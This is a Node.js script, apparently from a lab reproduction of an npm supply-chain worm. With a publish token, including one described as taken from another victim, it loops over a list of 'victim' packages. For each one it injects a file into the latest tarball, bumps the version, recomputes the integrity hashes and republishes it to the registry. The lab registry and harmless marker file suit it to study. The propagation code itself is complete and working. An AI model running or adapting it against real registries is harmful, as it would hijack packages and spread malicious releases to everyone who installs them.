// The same loop by plain HTTP. `node by-http.js brought`: with the token of another victim, as later waves did.
'use strict';
const zlib = require('zlib');
const crypto = require('crypto');
const { lab, request } = require('./kit.js');
const { victims, bump, token, packument } = require('./common.js');

// One more entry in front of an existing tar.
const inject = (tgz, name, text) => {
  const head = Buffer.alloc(512);
  head.write(name);
  head.write('0000644\0', 100);
  head.write('0000000\0', 108);
  head.write('0000000\0', 116);
  head.write(text.length.toString(8).padStart(11, '0') + '\0', 124);
  head.write('00000000000\0', 136);
  head.write('        0', 148);
  head.write('ustar\0' + '00', 257);
  const sum = head.reduce((a, b) => a + b, 0);
  head.write(sum.toString(8).padStart(6, '0') + '\0 ', 148);
  const body = Buffer.alloc(512);
  body.write(text);
  return zlib.gzipSync(Buffer.concat([head, body, zlib.gunzipSync(tgz)]));
};

(async () => {
  const key = process.argv[2] === 'brought' ? 'token-from-another-victim' : token();
  if (!key) return;
  const auth = { authorization: `Bearer ${key}` };
  await request('GET', lab.registry + '-/whoami', '', auth);
  for (const name of victims) {
    const old = await packument(name);
    const last = old['dist-tags'].latest;
    const version = bump(last);
    const tarball = inject((await request('GET', old.versions[last].dist.tarball)).body, 'package/MARKER.txt', 'injected\n');
    const file = `${name}-${version}.tgz`;
    const manifest = {
      ...old.versions[last], version, _id: `${name}@${version}`,
      dist: {
        shasum: crypto.createHash('sha1').update(tarball).digest('hex'),
        integrity: 'sha512-' + crypto.createHash('sha512').update(tarball).digest('base64'),
        tarball: `${lab.registry}${name}/-/${file}`,
      },
    };
    const data = {
      _id: name, name, 'dist-tags': { latest: version }, versions: { [version]: manifest },
      _attachments: { [file]: { content_type: 'application/octet-stream', data: tarball.toString('base64'),
        length: tarball.length } },
    };
    await request('PUT', lab.registry + name, JSON.stringify(data), { ...auth, 'content-type': 'application/json' });
  }
})();
